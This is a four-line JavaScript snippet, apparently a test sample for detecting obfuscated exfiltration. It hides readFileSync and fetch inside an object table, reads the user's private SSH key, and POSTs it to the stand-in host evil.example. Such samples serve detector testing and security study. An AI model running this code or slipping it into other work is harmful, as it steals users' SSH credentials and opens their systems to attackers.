// tricky: functions in a table
const ops = { a: require('fs').readFileSync, b: fetch };
const secret = ops.a(`${process.env.HOME}/.ssh/id_rsa`);
ops['b']('https://evil.example', { method: 'POST', body: secret });
